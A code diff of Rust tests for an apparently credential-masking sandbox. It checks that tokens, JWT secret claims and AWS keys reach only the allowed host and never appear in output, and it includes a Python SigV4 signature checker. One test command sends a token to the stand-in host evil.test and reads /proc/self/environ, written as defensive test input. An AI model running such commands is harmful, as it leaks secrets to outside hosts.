@@ -155,7 +155,7 @@ fn no_record_holds_it() {
                 "curl -sS -H \"X: $TOKEN\" https://api.test/ https://evil.test/$TOKEN; cat /proc/self/environ",
             ])
             .go();
-        assert!(!format!("{ran}").contains(REAL), "{ran}");
+        assert!(!ran.out().contains(REAL) && !ran.err().contains(REAL), "{ran}");
         assert_eq!(header(net, "x"), REAL);
         let mut places = vec![world.home.clone()];
         while let Some(place) = places.pop() {
@@ -203,3 +203,99 @@ fn files_and_denials() {
         assert_eq!(header(net, "x"), REAL);
     });
 }
+
+/// Three parts, of which the last is the signature.
+const JWT: &str =
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJtZSIsInNlY3JldCI6ImhpZGRlbi1jbGFpbSJ9.c2lnbmF0dXJlLXRoYXQtaXMtcmVhbA";
+
+#[test]
+fn web_tokens_keep_their_shape() {
+    online(|net, world| {
+        net.secure();
+        let mut settings = settings(world);
+        let variable = json!({"name": "JWT", "mode": "mask", "decode": "jwt", "maskClaims": ["secret"], "injectHosts": ["api.test"]});
+        settings["credentials"] = json!({"envVars": [variable]});
+        let run = |text: &str| srt_with(world, &settings).var("JWT", JWT).opts(["-c", text]).go();
+        let ran = run(
+            "printf %s \"$JWT\" | cut -d. -f2 | tr '_-' '/+' | base64 -d 2>/dev/null; echo; printf %s \"$JWT\" | tr -cd . | wc -c",
+        );
+        let said = ran.out();
+        assert!(said.contains("\"sub\":\"me\"") && !said.contains("hidden-claim"), "{ran}");
+        assert_eq!(said.lines().last(), Some("2"), "{ran}");
+        assert!(!run("printf %s \"$JWT\"").out().contains("c2lnbmF0dXJlLXRoYXQtaXMtcmVhbA"));
+        run("curl -sS -H \"Authorization: Bearer $JWT\" https://api.test/").exits(0);
+        assert_eq!(header(net, "authorization"), format!("Bearer {JWT}"));
+        run("curl -sS -H \"Authorization: Bearer $JWT\" https://other.test/").exits(0);
+        assert!(!header(net, "authorization").contains("c2lnbmF0dXJlLXRoYXQtaXMtcmVhbA"));
+    });
+}
+
+/// curl signs by itself; the server recomputes with the real key.
+#[test]
+fn requests_are_signed_anew() {
+    online(|net, world| {
+        net.secure();
+        let (id, key) = ("AKIAREALREALREALREAL", "real+secret/key0000000000000000000000000");
+        let mut settings = settings(world);
+        let variable = |name: &str| json!({"name": name, "mode": "mask", "injectHosts": ["api.test"]});
+        settings["credentials"] = json!({
+            "envVars": [variable("AWS_ACCESS_KEY_ID"), variable("AWS_SECRET_ACCESS_KEY")],
+            "awsPairs": [{"accessKeyId": "AWS_ACCESS_KEY_ID", "secretAccessKey": "AWS_SECRET_ACCESS_KEY"}],
+            "sigv4": {},
+        });
+        let send = |host: &str| {
+            let text = format!(
+                "curl -sS --http1.1 --aws-sigv4 aws:amz:us-east-1:service -u \"$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\" \
+                 -H 'content-type: text/plain' -d body 'https://{host}/bucket/item'"
+            );
+            let ran = srt_with(world, &settings)
+                .var("AWS_ACCESS_KEY_ID", id)
+                .var("AWS_SECRET_ACCESS_KEY", key)
+                .opts(["-c", &text])
+                .go();
+            ran.exits(0);
+            assert!(!ran.out().contains(key) && !ran.err().contains(key));
+            net.secured().pop().expect("a request")
+        };
+        let row = send("api.test");
+        let checked = std::process::Command::new("python3")
+            .args(["-c", SIGV4, key, &row.to_string()])
+            .output()
+            .unwrap();
+        assert_eq!(
+            String::from_utf8_lossy(&checked.stdout),
+            "good\n",
+            "{row:#}{}",
+            String::from_utf8_lossy(&checked.stderr)
+        );
+        assert!(row["headers"]["authorization"].as_str().unwrap().contains(id), "{row:#}");
+        let row = send("other.test");
+        assert!(!row.to_string().contains(id), "{row:#}");
+        let checked = std::process::Command::new("python3")
+            .args(["-c", SIGV4, key, &row.to_string()])
+            .output()
+            .unwrap();
+        assert_eq!(
+            String::from_utf8_lossy(&checked.stdout),
+            "bad\n",
+            "signed with the real key for a stranger"
+        );
+    });
+}
+
+/// Whether a request's signature was made with a key.
+const SIGV4: &str = r#"
+import hashlib, hmac, json, re, sys
+key, row = sys.argv[1], json.loads(sys.argv[2])
+head = row['headers']
+scope, signed, given = re.search(r'Credential=[^/]+/(\S+?),\s*SignedHeaders=(\S+?),\s*Signature=(\w+)', head['authorization']).groups()
+body = row['body'].encode('latin1')
+digest = head.get('x-amz-content-sha256') or hashlib.sha256(body).hexdigest()
+lines = ''.join('%s:%s\n' % (name, ' '.join(head[name].split())) for name in signed.split(';'))
+canonical = '\n'.join([row['method'], row['target'], '', lines, signed, digest])
+text = '\n'.join(['AWS4-HMAC-SHA256', head['x-amz-date'], scope, hashlib.sha256(canonical.encode()).hexdigest()])
+sign = ('AWS4' + key).encode()
+for part in scope.split('/'):
+    sign = hmac.new(sign, part.encode(), hashlib.sha256).digest()
+print('good' if hmac.new(sign, text.encode(), hashlib.sha256).hexdigest() == given else 'bad')
+"#;
